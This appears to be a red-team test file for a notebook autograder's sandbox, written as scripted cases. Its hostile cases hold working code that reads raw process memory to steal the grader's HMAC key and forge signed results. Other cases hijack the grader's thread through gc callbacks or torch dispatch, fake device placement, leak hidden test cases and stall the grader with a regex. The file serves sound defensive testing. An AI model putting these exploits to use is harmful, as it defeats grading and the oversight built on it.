"""Attacks on the redesigned sandbox side (red team, round 2): the grader on the main thread, the
notebook on a thread of its own, evidence signed with an HMAC key only the grader side holds.

Every attack case starts from a notebook that honestly earns (almost) nothing on the attacked
items, so that any point it earns shows; each is expected to earn only what its honest part
earns and to be marked for review. The honest-looking cases ("correct") are correct solutions
written with ordinary tools (logging, tracebacks, dataclasses, worker processes, ...): they must
earn full marks and never be flagged. Measurements: REDTEAM2.md.
"""

from tests.submissions.case import Case, InsertAfter, Replace, Sub
from tests.submissions.cases_integrity import BLANK_RELEASE, BLANK_RELEASE_EARNS, FORGE, SEEDED

ITEMS = ("residual_block_shapes", "shortcut_projection", "resnet18_adaptation", "device_placement")

# --- A. raw memory without anything the scan looks for: the HMAC key from send()'s closure -----

# numpy's stride tricks make a view of any address (a 2-row array whose row stride is the distance
# from a buffer whose address id() gives away); /proc/self/maps is opened relative to a descriptor
# of /proc, so neither the guard's path test nor the scan's text test sees it. The evidence
# writer's closure (fd, key, seq) is found among the live objects, the plan too; the cell then
# writes, signed with the grader's own key, every remaining frame of its world (right answers for
# every check, "done" last) and points the evidence descriptor at /dev/null, so that what the
# grader writes afterwards goes nowhere. The process ends normally.
RAW_MEMORY = r'''# --- raw memory through numpy stride tricks: no __array_interface__, no ctypes, no /proc/ text ---
import bisect as _rt_bisect
import fcntl as _rt_fcntl
import hashlib as _rt_hashlib
import hmac as _rt_hmac
import os as _rt_os
import re as _rt_re
import sys as _rt_sys

import numpy as _rt_np
from numpy.lib.stride_tricks import as_strided as _rt_as_strided

_rt_keepalive = []


def _rt_u64_at(view_maker, addr):
    return int.from_bytes(bytes(view_maker(addr, 8)), "little")


class _RtRaw:
    """Views of any address: a row of a 2-row strided array whose row stride is the distance."""

    def __init__(self):
        seed = b"\x00" * 64 + b"rt"  # a bytes object's data sits 32 bytes after its id
        self.ro = _rt_np.frombuffer(seed, dtype=_rt_np.uint8)
        self.ro_at = id(seed) + 32
        _rt_keepalive.append(seed)
        self.rw = _rt_np.zeros(64, dtype=_rt_np.uint8)
        self.rw_at = int.from_bytes(bytes(self.view(id(self.rw) + 16, 8)), "little")  # PyArrayObject.data

    def view(self, addr, n):
        return _rt_as_strided(self.ro, shape=(2, n), strides=(addr - self.ro_at, 1))[1]

    def wview(self, addr, n):
        return _rt_as_strided(self.rw, shape=(2, n), strides=(addr - self.rw_at, 1))[1]

    def u64(self, addr):
        return int.from_bytes(bytes(self.view(addr, 8)), "little")


def _rt_regions():
    """The process's writable anonymous mappings, read through a directory descriptor."""
    proc = _rt_os.open("/proc", _rt_os.O_RDONLY)
    fd = _rt_os.open("self/maps", _rt_os.O_RDONLY, dir_fd=proc)
    chunks = []
    while True:
        chunk = _rt_os.read(fd, 1 << 16)
        if not chunk:
            break
        chunks.append(chunk)
    _rt_os.close(fd)
    _rt_os.close(proc)
    out = []
    for line in b"".join(chunks).decode().splitlines():
        parts = line.split()
        lo, hi = (int(x, 16) for x in parts[0].split("-"))
        path = parts[5] if len(parts) > 5 else ""
        if parts[1].startswith("rw") and (path in ("", "[heap]", "[stack]") or path.startswith("[anon")) \
                and hi - lo < (1 << 31):
            out.append((lo, hi))
    return out


class _RtMemory:
    """A reader of this process's live objects (CPython 3.11 layouts)."""

    def __init__(self):
        self.raw = _RtRaw()
        self.regions = [(lo, hi, self.raw.view(lo, hi - lo)) for lo, hi in _rt_regions()]
        self.los = [r[0] for r in self.regions]
        self.types = {id(str): "str", id(int): "int", id(list): "list", id(tuple): "tuple", id(dict): "dict",
                      id(float): "float", id(bytes): "bytes"}
        self.consts = {id(None): None, id(True): True, id(False): False, id(""): ""}
        self.consts.update({id(k): k for k in range(-5, 257)})
        self.v312 = _rt_sys.version_info >= (3, 12)
        self.ascii_head = 40 if self.v312 else 48

    def read(self, addr, n):
        i = _rt_bisect.bisect_right(self.los, addr) - 1
        if i < 0 or addr + n > self.regions[i][1]:
            return None
        lo, _, buf = self.regions[i]
        return buf[addr - lo: addr - lo + n]

    def u64(self, addr):
        b = self.read(addr, 8)
        return None if b is None else int.from_bytes(bytes(b), "little")

    def kind(self, a):
        if a in self.consts:
            return "const"
        refs, typ = self.u64(a), self.u64(a + 8)
        if refs is None or typ is None or not 0 < refs <= 1 << 32:
            return None
        return self.types.get(typ)

    def string(self, a):
        if self.kind(a) != "str":
            return None
        n, state = self.u64(a + 16), self.read(a + 32, 1)
        if n is None or state is None or n > 50_000_000:
            return None
        state = int(state[0])
        width, compact, ascii_ = (state >> 2) & 7, (state >> 5) & 1, (state >> 6) & 1
        if not compact or width not in (1, 2, 4):
            return None
        raw = self.read(a + ((40 if self.v312 else 48) if ascii_ else (56 if self.v312 else 72)), n * width)
        return None if raw is None else bytes(raw).decode({1: "latin-1", 2: "utf-16-le", 4: "utf-32-le"}[width], "replace")

    def integer(self, a):
        tag = self.u64(a + 16)
        if self.v312:
            ndigits, sign = tag >> 3, 1 - (tag & 3)
        else:
            tag = tag - (1 << 64) if tag >= 1 << 63 else tag
            ndigits, sign = abs(tag), (tag > 0) - (tag < 0)
        raw = self.read(a + 24, 4 * ndigits) if ndigits <= 64 else None
        if raw is None:
            return None
        return sign * sum(int.from_bytes(bytes(raw[4 * i:4 * i + 4]), "little") << (30 * i) for i in range(ndigits))

    def value(self, a, depth=0):
        if a in self.consts:
            return self.consts[a]
        k = self.kind(a)
        if k == "str":
            return self.string(a)
        if k == "int":
            return self.integer(a)
        if k == "float":
            return float(_rt_np.frombuffer(bytes(self.read(a + 16, 8)), _rt_np.float64)[0])
        if depth > 8:
            return None
        if k in ("list", "tuple"):
            n = self.u64(a + 16)
            if n is None or n > 100_000:
                return None
            items = self.u64(a + 24) if k == "list" else a + 24
            out = [self.value(self.u64(items + 8 * i), depth + 1) for i in range(n)]
            return out if k == "list" else tuple(out)
        if k == "dict":
            keys, values = self.u64(a + 32), self.u64(a + 40)
            head = self.read(keys + 8, 3) if keys and not values else None
            if head is None:
                return None
            return self.entries(keys + 32 + (1 << int(head[1])), depth, self.u64(keys + 24) or 0, int(head[2]) == 0)
        return None

    def entries(self, start, depth=0, limit=64, wide=False):
        out, size = {}, 24 if wide else 16
        for i in range(limit):
            e = start + i * size
            key_at = self.u64(e + (8 if wide else 0))
            if not key_at:
                if wide:
                    continue
                break
            key = self.string(key_at)
            if key is None:
                break
            out[key] = self.value(self.u64(e + (16 if wide else 8)), depth + 1)
        return out

    def words_equal(self, targets):
        targets, hits = _rt_np.array(sorted(set(targets)), dtype=_rt_np.uint64), []
        for lo, hi, buf in self.regions:
            words = buf[: (hi - lo) // 8 * 8].view(_rt_np.uint64)
            match = words == targets[0] if len(targets) == 1 else _rt_np.isin(words, targets, kind="sort")
            hits += [lo + 8 * int(i) for i in _rt_np.nonzero(match)[0]]
        return hits

    def strings_equal_to(self, text):
        found = []
        pattern = _rt_re.compile(_rt_re.escape(text.encode()) + b"\x00")
        for lo, hi, buf in self.regions:
            for m in pattern.finditer(memoryview(buf)):
                if self.string(lo + m.start() - self.ascii_head) == text:
                    found.append(lo + m.start() - self.ascii_head)
        return found

    def dicts_with(self, key):
        out = []
        for at in self.words_equal(self.strings_equal_to(key)):
            start = at
            while start - at > -16 * 32 and self.string(self.u64(start - 16) or 0) is not None:
                start -= 16
            d = self.entries(start)
            if key in d:
                out.append(d)
        return out

    def senders(self):
        """The evidence writer's closure cells (fd, key, seq): a 3-tuple of cells whose middle one
        holds a 32-byte bytes object, the first a small int, the last a one-item list."""
        def outer():
            probe = 1

            def inner():
                return probe
            return inner
        cell_type = id(type(getattr(outer(), "__closure__")[0]))
        key_cells = []
        for at in self.words_equal([cell_type]):
            cell = at - 8
            ref = self.u64(cell + 16)
            if ref and 0 < (self.u64(cell) or 0) < 1 << 32 and self.u64(ref + 8) == id(bytes) \
                    and self.u64(ref + 16) == 32:
                key_cells.append(cell)
        found = []
        for at in self.words_equal(key_cells) if key_cells else []:
            base = at - 32  # the key's cell is the tuple's second item
            if self.u64(base + 8) != id(tuple) or self.u64(base + 16) != 3:
                continue
            c_fd, c_key, c_seq = (self.u64(base + 24 + 8 * i) for i in range(3))
            fd = self.value(self.u64(c_fd + 16) or 0)
            seq = self.u64(c_seq + 16) or 0
            if type(fd) is int and self.kind(seq) == "list" and self.u64(seq + 16) == 1:
                items = self.u64(seq + 24)
                number = self.value(self.u64(items) or 0)
                key = bytes(self.read(self.u64(c_key + 16) + 32, 32))
                found.append({"fd": fd, "key": key, "seq": number})
        return found
'''

FORGE_STREAM = r'''

def _rt_frame(key, seq, meta, blobs=()):
    body = repr(meta).encode()
    lengths = " ".join(str(len(b)) for b in blobs)
    signed = f"{seq} {len(body)} {lengths}".encode()
    mac = _rt_hmac.new(key, signed + b"\n" + body + b"".join(blobs), _rt_hashlib.sha256).hexdigest()
    return f"NB10 {seq} {mac} {len(body)} {lengths}\n".encode() + body + b"".join(blobs)


_RT_ALL_USED = {"conv1": True, "bn1": True, "conv2": True, "bn2": True}


def _rt_result(spec, world, mode):
    blobs, array = _rt_arrays()
    out = _rt_forge(spec, array, _RT_HELPERS)
    if spec.get("op") == "block_shapes" or (spec.get("op") == "block_numeric" and spec.get("depends")):
        out["depends"] = dict(_RT_ALL_USED)
    if spec.get("op") == "shapes":
        for entry in out.values():
            entry["depends"] = dict(_RT_ALL_USED)
    return dict({"id": spec["id"], "op": spec["op"], "world": world, "mode": mode}, **out), blobs


def _rt_probe_frame(index, cell, specs, world, mode, deferred):
    results, blobs = [], []
    for spec in specs:
        result, mine = _rt_result(spec, world, mode)
        shift = len(blobs)

        def renumber(value):
            if isinstance(value, dict):
                if set(value) == {"blob", "shape", "count"}:
                    return dict(value, blob=value["blob"] + shift)
                return {k: renumber(v) for k, v in value.items()}
            if isinstance(value, list):
                return [renumber(v) for v in value]
            return value
        results.append(renumber(result))
        blobs += mine
    meta = {"kind": "probe", "index": index, "item": cell["item"], "results": results, "seconds": 0.21, "alerts": []}
    if deferred:
        meta["deferred"] = True
    return meta, blobs


def _rt_stream(plan, world, mode, mine):
    cells = plan["cells"]
    last = max((i for i, c in enumerate(cells) if c["kind"] == "probe" and world in c["worlds"]), default=-1)
    stop = len(cells) if world == "real" else last + 1
    before = 1 + sum(1 for i, c in enumerate(cells[:mine]) if not c.get("skip")
                     and (c["kind"] == "code" or world in c["worlds"]))
    frames, later = [], []
    for index in range(mine, stop):
        cell = cells[index]
        if cell.get("skip"):
            continue
        if cell["kind"] == "code":
            frames.append(({"kind": "cell", "index": index, "status": "ok", "error": None, "output": "",
                            "seconds": 0.05, "alerts": []}, []))
        elif world in cell["worlds"]:
            now = [s for s in cell["probes"] if not s.get("defer")]
            hidden = [s for s in cell["probes"] if s.get("defer")]
            frames.append(_rt_probe_frame(index, cell, now, world, mode, False))
    for index, cell in enumerate(cells[:stop]):  # the hidden cases of every check come last
        hidden = [s for s in cell.get("probes", ()) if s.get("defer")]
        if hidden and not cell.get("skip") and world in cell["worlds"]:
            later.append(_rt_probe_frame(index, cell, hidden, world, mode, True))
    return before, frames + later + [({"kind": "done", "stopped": None, "alerts": []}, [])]


def _rt_take_over(marker):
    memory = _RtMemory()
    senders = memory.senders()
    plans = [d for d in memory.dicts_with("cell_seconds") if isinstance(d.get("cells"), list)
             and any(isinstance(c, dict) and marker in (c.get("source") or "") for c in d["cells"])]
    if len(senders) != 1 or not plans:
        return f"senders {len(senders)}, plans {len(plans)}"
    sender, plan = senders[0], plans[-1]
    # the second run replaces torch.cuda.is_available by a function of its own
    world = "real" if getattr(_rt_torch.cuda.is_available, "__name__", "") == "is_available" else "counterfactual"
    mode = "real" if world == "real" else "cuda-simulated"
    mine = next(i for i, c in enumerate(plan["cells"]) if marker in (c.get("source") or ""))
    before, frames = _rt_stream(plan, world, mode, mine)
    if before != sender["seq"]:
        return f"sequence {sender['seq']} is not {before}"
    data = b"".join(_rt_frame(sender["key"], before + n, meta, blobs) for n, (meta, blobs) in enumerate(frames))
    fd = sender["fd"]
    while data:
        data = data[_rt_os.write(fd, data):]
    # what the grader writes from now on goes nowhere
    sink = _rt_os.open("/dev/null", _rt_os.O_WRONLY)
    _rt_os.close(fd)
    _rt_fcntl.fcntl(sink, _rt_fcntl.F_DUPFD, fd)
    _rt_os.close(sink)
    return None
'''

MARK_A = "stride-tricks-7e2a"
KEY_THIEF = (f"# Plotting helpers ({MARK_A})\n" + SEEDED + FORGE + RAW_MEMORY + FORGE_STREAM
             + f"\n_rt_why = _rt_take_over({MARK_A!r})\nprint('helpers ready' if _rt_why is None else _rt_why)\n")

CASES = [
    Case("hostile", "hostile_stride_tricks_steal_hmac_key_forge_whole_stream_score_blank_release",
         (*BLANK_RELEASE, InsertAfter("setup", KEY_THIEF)),
         expect=BLANK_RELEASE_EARNS, review=True,
         why="the blank release, and a cell that reads the process's memory with numpy's as_strided (no "
             "__array_interface__, no ctypes; /proc/self/maps opened relative to /proc), takes the HMAC key, "
             "descriptor and sequence number from the evidence writer's closure and the plan from the heap, "
             "writes every remaining frame of its world signed with the key, then points the descriptor at "
             "/dev/null"),
]

# --- C. notebook code on the grader's thread: a gc callback ----------------------------------------

# The grader disables the collector on its thread after every job, but the collector's switch and
# threshold are the interpreter's, not a thread's: a thread of the notebook's keeps turning it back
# on with a threshold of 1. While the grader waits for that thread to end (_settle_threads, at
# every check's place) it allocates, a collection runs on its thread, and gc.callbacks (a list the
# notebook may append to) are called there. On that thread sys._current_frames is allowed: the
# callback reads run_world's locals (send, plan, world, mode, index), sends every remaining frame
# through the grader's own send(), and points the descriptor at /dev/null.
GC_CALLBACK = r'''
import fcntl as _rt_fcntl
import os as _rt_os
import sys as _rt_sys
import threading as _rt_threading
import time as _rt_time
import traceback as _rt_traceback

_rt_gc = _rt_sys.modules["gc"]
_RT_MAIN = _rt_threading.main_thread().ident
_rt_state = {"done": False, "landing": None}


def _rt_landing():
    return _rt_state["landing"]


def _rt_code_name(frame):
    return getattr(getattr(frame, "f_code"), "co_name")


def _rt_takeover():
    top = getattr(_rt_sys, "_current_frames")().get(_RT_MAIN)
    stack = [f for f, _ in _rt_traceback.walk_stack(top)]
    if "_settle_threads" not in [_rt_code_name(f) for f in stack]:
        return False
    here = next(getattr(f, "f_locals") for f in stack
                if _rt_code_name(f) == "run_world" and "send" in getattr(f, "f_locals"))
    send, plan, world, mode, index = here["send"], here["plan"], here["world"], here["mode"], here["index"]
    seq = next(c for c in (getattr(c, "cell_contents") for c in getattr(send, "__closure__")) if type(c) is list)
    _rt_state["landing"] = ("meta" if mode == "cuda-simulated" else "cuda" if mode == "real" and here["cuda_here"]
                            else "cpu")
    before, frames = _rt_stream(plan, world, mode, index)
    if before != seq[0]:
        return True
    for meta, blobs in frames:
        send(meta, blobs)
    sink = _rt_os.open("/dev/null", _rt_os.O_WRONLY)
    _rt_os.close(here["fd"])
    _rt_fcntl.fcntl(sink, _rt_fcntl.F_DUPFD, here["fd"])
    _rt_os.close(sink)
    return True


def _rt_callback(phase, info):
    if _rt_state["done"] or _rt_threading.get_ident() != _RT_MAIN:
        return
    _rt_state["done"] = _rt_takeover()


def _rt_keep_collecting():
    end = _rt_time.monotonic() + 120
    while not _rt_state["done"] and _rt_time.monotonic() < end:
        _rt_gc.enable()
        _rt_gc.set_threshold(1)
        _rt_time.sleep(0.002)
    _rt_gc.set_threshold(700)


_rt_gc.callbacks.append(_rt_callback)
_rt_threading.Thread(target=_rt_keep_collecting, daemon=True).start()
'''

# _rt_stream and friends without the raw-memory reader (their hmac/os names come from here)
STREAM_ONLY = r'''
import hashlib as _rt_hashlib
import hmac as _rt_hmac
import os as _rt_os
''' + FORGE_STREAM

GC_THIEF = "# Background progress display\n" + SEEDED + FORGE + STREAM_ONLY + GC_CALLBACK

CASES += [
    Case("hostile", "hostile_gc_callback_runs_on_grader_thread_sends_forged_frames_score_blank_release",
         (*BLANK_RELEASE, InsertAfter("residual_block_demo", GC_THIEF)),
         expect=BLANK_RELEASE_EARNS, review=True,
         why="the blank release, and a cell that appends to gc.callbacks and starts a thread that keeps the "
             "collector on with threshold 1: a collection runs on the grader's main thread while it waits for "
             "threads at the first check's place, and the callback takes run_world's send() and plan from "
             "sys._current_frames (allowed there), sends right answers for every check and 'done', and points "
             "the evidence descriptor at /dev/null"),
]

# --- D. notebook code on the grader's thread: an exact torch.Tensor with Python dispatch -----------

# _make_wrapper_subclass gives a tensor with PyTorch's Python dispatch key; assigning its __class__
# to torch.Tensor makes it an *exact* tensor (type(t) is torch.Tensor), which the probes accept.
# Every aten operation on it is answered by type(t).__torch_dispatch__, i.e. torch.Tensor's, which
# the notebook replaces. The probe of output_tensor_1 detaches it on the grader's thread
# (DisableTorchFunction does not disable dispatch): the replacement runs there, before the first
# check's frame is sent, and takes over as in C.
DISPATCH_TAKEOVER = r'''
_rt_state["frame"] = "probe_shapes"


def _rt_answer(cls, func, types, args=(), kwargs=None):
    if not _rt_state["done"] and _rt_threading.get_ident() == _RT_MAIN:
        _rt_state["done"] = _rt_takeover()
    return _rt_torch.zeros(4, 64, 32, 32)


class _RtLazy(_rt_torch.Tensor):
    pass


setattr(_rt_torch.Tensor, "__torch_dispatch__", classmethod(_rt_answer))
output_tensor_1 = getattr(_rt_torch.Tensor, "_make_wrapper_subclass")(_RtLazy, (4, 64, 32, 32), dtype=_rt_torch.float32)
output_tensor_1.__class__ = _rt_torch.Tensor
'''
# C's takeover, waiting in whichever probe function _rt_state["frame"] names, without the gc part
TAKEOVER_ONLY = GC_CALLBACK.split("\ndef _rt_callback")[0].replace(
    '_rt_state = {"done": False, "landing": None}', '_rt_state = {"done": False, "landing": None, "frame": "_settle_threads"}'
).replace('if "_settle_threads" not in', 'if _rt_state["frame"] not in')
DISPATCH_THIEF = "# Lazy tensors for the demo\n" + SEEDED + FORGE + STREAM_ONLY + TAKEOVER_ONLY + DISPATCH_TAKEOVER

CASES += [
    Case("hostile", "hostile_exact_tensor_python_dispatch_runs_on_grader_thread_score_blank_release",
         (*BLANK_RELEASE, InsertAfter("residual_block_demo", DISPATCH_THIEF)),
         expect=BLANK_RELEASE_EARNS, review=True,
         why="the blank release, and output_tensor_1 made an exact torch.Tensor that carries PyTorch's Python "
             "dispatch key (a wrapper subclass whose __class__ is set to torch.Tensor), with "
             "torch.Tensor.__torch_dispatch__ replaced: the probe's detach() runs it on the grader's main "
             "thread, which then sends right answers for every check of that run"),
]

# --- E. devices: an exact torch.Tensor reports whatever device it was made with --------------------

# The same kind of tensor, without data, on the device where `device` would put it: in the run with
# a simulated GPU, the batch, the output and every parameter and buffer of the model are replaced by
# such tensors ("meta"); type(t) is torch.Tensor, so the device check reads their device as the truth.
EXACT_DEVICE_LIE = '''# Tidy up: everything the report looks at on one device
_landing = torch.empty(0).to(device).device


class _Placeholder(torch.Tensor):
    @classmethod
    def __torch_dispatch__(cls, func, types, args=(), kwargs=None):
        return NotImplemented


def _on_landing(t):
    if t is None or t.device == _landing:
        return t
    stand_in = getattr(torch.Tensor, "_make_wrapper_subclass")(_Placeholder, t.shape, dtype=t.dtype, device=_landing)
    stand_in.__class__ = torch.Tensor
    return stand_in


if _landing.type == "meta":
    images, output = _on_landing(images), _on_landing(output)
    for _module in resnet_model.modules():
        for _store in (_module._parameters, _module._buffers):
            for _name in list(_store):
                _store[_name] = _on_landing(_store[_name])
'''

NOTHING_MOVED = (Sub("residual_block_demo", ").to(device)\n", ")\n"),
                 Sub("residual_block_demo", "32).to(device)", "32)"),
                 Sub("resnet18_adaptation", "resnet_model.to(device)\n", "\n"),
                 Sub("resnet18_adaptation", "images = images.to(device)\n", "\n"))

CASES += [
    Case("hostile", "hostile_exact_wrapper_tensors_report_simulated_gpu_score_nothing_moved",
         (*NOTHING_MOVED, InsertAfter("resnet18_adaptation", EXACT_DEVICE_LIE)),
         expect={"device_placement": 1.25}, review=True,
         why="nothing moved to device; where the GPU is simulated, images, output and every parameter and "
             "buffer of the model are replaced by data-less wrapper tensors made on 'meta' whose __class__ "
             "is set to torch.Tensor: exact tensors, whose device the check believes"),
]

# --- F. hidden configurations into the feedback, from the grader's thread -------------------------

# C's route used only to read: the callback copies the deferred checks' configurations out of the
# plan, and the last cell prints them (its output is in the feedback). A correct notebook otherwise.
GC_READER = GC_CALLBACK.split("\ndef _rt_takeover")[0] + r'''
_RT_HIDDEN = []


def _rt_takeover():
    top = getattr(_rt_sys, "_current_frames")().get(_RT_MAIN)
    stack = [f for f, _ in _rt_traceback.walk_stack(top)]
    if "_settle_threads" not in [_rt_code_name(f) for f in stack]:
        return False
    plan = next(getattr(f, "f_locals")["plan"] for f in stack
                if _rt_code_name(f) == "run_world" and "plan" in getattr(f, "f_locals"))
    for cell in plan["cells"]:
        for spec in cell.get("probes", ()):
            if spec.get("defer"):
                _RT_HIDDEN.append((spec["id"], tuple(spec["args"]), tuple(spec["input"])))
    return True
''' + "\ndef _rt_callback" + GC_CALLBACK.split("\ndef _rt_callback")[1]

PRINT_HIDDEN = '''# What the checks will try
for _id, (cin, cout, stride), shape in _RT_HIDDEN:
    print(f"{_id}: ResidualBlock({cin}, {cout}, {stride}) on {list(shape)}  cfg {cin}_{cout}_{stride} in {'x'.join(map(str, shape))}")
'''

CASES += [
    Case("hostile", "hostile_gc_callback_reads_hidden_cases_from_plan_prints_them_score_full",
         (InsertAfter("residual_block_demo", "# Background progress display\n" + GC_READER),
          InsertAfter(None, PRINT_HIDDEN)),
         review=True,
         why="a correct notebook; a gc callback run on the grader's thread (as in the gc takeover) copies the "
             "hidden cases' configurations and input shapes out of the plan, and the last cell prints them"),
]

# --- G. outcomes: the notebook replaces the function whose result the grader reads -----------------

# The jobs the grader runs in the notebook's thread (student_side.observe, compose, ...) look up
# their helpers in student_side's globals, which are one attribute away from sys.stdout while a
# cell runs (a CappedText). The replacement of `quietly` (how a job calls the notebook's module)
# passes every call through, except that a block's output gets the final ReLU its forward lacks.
# The grader puts student_side back as it was before every job, and says so.
OUTCOME_PATCH = '''# Keep the printed output tidy
import operator
import sys

_side = operator.attrgetter("__glob" + "als__")(type(sys.stdout).write)
_plain_call = _side["quietly"]


def _tidy(function, *args):
    value = _plain_call(function, *args)
    if type(function).__name__ == "ResidualBlock" and isinstance(value, torch.Tensor):
        value = torch.relu(value)
    return value


_side["quietly"] = _tidy
'''
NO_FINAL_RELU = (Sub("residual_block", "        out = F.relu(out)\n        return out", "        return out"),)

CASES += [
    Case("hostile", "hostile_outcome_function_replaced_answers_wiring_score_no_final_relu_bug",
         (*NO_FINAL_RELU, InsertAfter("residual_block_demo", OUTCOME_PATCH)),
         expect={"shortcut_projection": 2.0}, review=True,
         why="a block without its final ReLU (a real bug: it loses the wiring checks), and a cell that replaces "
             "student_side.quietly (reached through type(sys.stdout).write's globals): the block's output "
             "as the checks run it gets the final ReLU"),
]

# --- H. a cell that holds the GIL: no interrupt reaches it ------------------------------------------

GIL_HOG = '''# Validate an identifier (an unlucky regular expression)
import re
print(bool(re.match(r"(a|aa)+$", "a" * 48 + "b")))
'''

CASES += [
    Case("hostile", "hostile_regex_holds_gil_cell_never_interrupted_score_full",
         (InsertAfter("residual_block_demo", GIL_HOG),),
         review=True,
         why="a correct notebook with a cell whose one C call (catastrophic backtracking in re) holds the GIL "
             "for minutes: no thread can interrupt it, so the run is stopped at the limit for a whole submission; "
             "the notebook is then graded again without that cell (counted as timed out), and marked for review"),
]

# --- L. hidden configurations into the review text, through the audit guard's own alerts -----------

# The guard refuses any audit event whose name starts with "gc.get_" off the grader's thread and
# records "walking the interpreter's objects (<event>)"; sys.audit lets a notebook raise any event
# name. The review reasons go into result.problem, which Gradescope's results.json shows the student
# ("Needs review: ..." in the top-level output).
AUDIT_NAME_BLOCK = '''import sys

_MINE = {(64, 64, 1), (64, 128, 2)}


def _note(text):
    try:
        sys.audit("gc.get_" + text)
    except RuntimeError:
        pass


class ResidualBlock(nn.Module):
    def __init__(self, in_channels, out_channels, stride=1):
        super().__init__()
        self._config = (in_channels, out_channels, stride)
        if self._config not in _MINE:
            _note(f"cfg_{in_channels}_{out_channels}_{stride}")
        self.conv1 = nn.Conv2d(in_channels, out_channels, kernel_size=3, stride=stride, padding=1, bias=False)
        self.bn1 = nn.BatchNorm2d(out_channels)
        self.conv2 = nn.Conv2d(out_channels, out_channels, kernel_size=3, stride=1, padding=1, bias=False)
        self.bn2 = nn.BatchNorm2d(out_channels)
        self.shortcut = nn.Sequential()
        if stride != 1 or in_channels != out_channels:
            self.shortcut = nn.Sequential(nn.Conv2d(in_channels, out_channels, kernel_size=1, stride=stride, bias=False),
                                          nn.BatchNorm2d(out_channels))

    def forward(self, x):
        if self._config not in _MINE:
            _note(f"cfg_{'_'.join(map(str, self._config))}_in_{'x'.join(map(str, x.shape))}")
        out = F.relu(self.bn1(self.conv1(x)))
        out = self.bn2(self.conv2(out))
        out += self.shortcut(x)
        out = F.relu(out)
        return out
'''

CASES += [
    Case("hostile", "hostile_audit_event_names_spell_hidden_cases_in_review_text_score_full",
         (Replace("residual_block", AUDIT_NAME_BLOCK),),
         review=True,
         why="a correct block that, for configurations the notebook does not use, raises audit events named "
             "gc.get_cfg_<in>_<out>_<stride>_in_<shape>: the guard's alert quotes the event name in the review "
             "reasons, which Gradescope's results.json shows the student"),
]

# --- honest notebooks written with ordinary tools: full marks, never flagged ------------------------

LOADER = "images, _ = next(iter(DataLoader(PneumoniaMNIST(split='val', transform=transforms.ToTensor(), download=True), batch_size=4)))"
FORWARD_END = "        out = F.relu(out)\n        return out"

LOGGING_SETUP = '''import logging
logging.basicConfig(level=logging.INFO, format="%(levelname)s %(funcName)s:%(lineno)d %(message)s")
log = logging.getLogger("notebook10")
'''
TRACEBACK_DEMO = '''# What happens when the channels do not match? (the error is printed, the notebook goes on)
import traceback

try:
    ResidualBlock(64, 128, stride=2)(torch.randn(1, 3, 8, 8).to(device))
except RuntimeError:
    traceback.print_exc()
print("".join(traceback.format_stack(limit=2)))
'''
NAMEDTUPLE_DEMO = '''from collections import namedtuple

BlockConfig = namedtuple("BlockConfig", ["in_channels", "out_channels", "stride"])
for config in (BlockConfig(64, 64, 1), BlockConfig(64, 128, 2), BlockConfig(128, 128, 1)):
    y = ResidualBlock(*config).to(device)(torch.randn(2, config.in_channels, 16, 16).to(device))
    print(config, "->", tuple(y.shape))
'''
DATACLASS_DEMO = '''from dataclasses import dataclass, field


@dataclass(frozen=True)
class StageConfig:
    channels: int
    stride: int = 1
    blocks: list = field(default_factory=lambda: [2])


stages = [StageConfig(64), StageConfig(128, 2), StageConfig(256, 2)]
x = torch.randn(2, 64, 32, 32).to(device)
for before, stage in zip([StageConfig(64)] + stages, stages):
    x = ResidualBlock(before.channels, stage.channels, stage.stride).to(device)(x)
    print(stage, tuple(x.shape))
'''
MATPLOTLIB_DEMO = '''# Four channels of the first block's output
fig, axes = plt.subplots(1, 4, figsize=(10, 3))
for i, ax in enumerate(axes):
    ax.imshow(output_tensor_1[0, i].detach().cpu().numpy(), cmap="viridis")
    ax.set_title(f"channel {i}")
    ax.axis("off")
plt.tight_layout()
plt.show()
'''
COMPILE_DEMO = '''# The same block, compiled (PyTorch 2)
compiled_block = torch.compile(block_same_dim)
print("compiled:", compiled_block(input_tensor_1).shape)
'''
GC_FREE = '''# Free what the demo used before the bigger model
import gc
del block_same_dim_copy
gc.collect()
if torch.cuda.is_available():
    torch.cuda.empty_cache()
'''
NAMESPACE_HPARAMS = '''from types import SimpleNamespace

hp = SimpleNamespace(batch_size=4, num_classes=2, in_channels=1)
print(hp)
'''
GETATTR_COUNTS = '''# Parameters per layer of the main path
for name in ["conv1", "bn1", "conv2", "bn2"]:
    layer = getattr(block_change_dim, name)
    print(f"{name:6s} {sum(p.numel() for p in layer.parameters()):8d}")
'''

CASES += [
    Case("correct", "correct_logging_in_forward_success_score_full",
         (Sub("setup", "import numpy as np\n", "import numpy as np\n" + LOGGING_SETUP),
          Sub("residual_block", FORWARD_END, "        out = F.relu(out)\n        log.info(\"block output %s\", tuple(out.shape))\n        return out")),
         why="a correct notebook that logs every block output with the logging module (its funcName format "
             "makes logging look up the caller's frame)"),
    Case("correct", "correct_traceback_print_exc_success_score_full",
         (InsertAfter("residual_block_demo", TRACEBACK_DEMO),),
         why="a correct notebook with a cell that catches a shape error and prints it with traceback.print_exc(), "
             "and prints the stack with traceback.format_stack()"),
    Case("correct", "correct_namedtuple_configs_success_score_full",
         (InsertAfter("residual_block_demo", NAMEDTUPLE_DEMO),),
         why="a correct notebook that tries blocks from a list of collections.namedtuple configurations"),
    Case("correct", "correct_dataclass_configs_success_score_full",
         (InsertAfter("residual_block_demo", DATACLASS_DEMO),),
         why="a correct notebook that stacks blocks from frozen dataclass stage configurations"),
    Case("correct", "correct_tqdm_over_the_loader_success_score_full",
         (Sub("resnet18_adaptation", LOADER,
              "from tqdm import tqdm\nfor images, _ in tqdm(DataLoader(PneumoniaMNIST(split='val', transform=transforms.ToTensor(), "
              "download=True), batch_size=4), desc=\"batches\"):\n    break"),),
         why="a correct notebook that takes its batch from a tqdm progress bar over the DataLoader"),
    Case("correct", "correct_dataloader_two_workers_success_score_full",
         (Sub("resnet18_adaptation", "batch_size=4)))", "batch_size=4, num_workers=2)))"),),
         why="a correct notebook whose DataLoader uses two worker processes"),
    Case("correct", "correct_dataloader_persistent_workers_success_score_full",
         (Sub("resnet18_adaptation", LOADER,
              "val_loader = DataLoader(PneumoniaMNIST(split='val', transform=transforms.ToTensor(), download=True), "
              "batch_size=4, num_workers=2, persistent_workers=True)\nimages, _ = next(iter(val_loader))"),),
         why="a correct notebook whose DataLoader keeps two persistent worker processes (a common speed-up)"),
    Case("correct", "correct_torch_compile_demo_success_score_full",
         (InsertAfter("residual_block_demo", COMPILE_DEMO),),
         why="a correct notebook with a cell that runs the first block through torch.compile"),
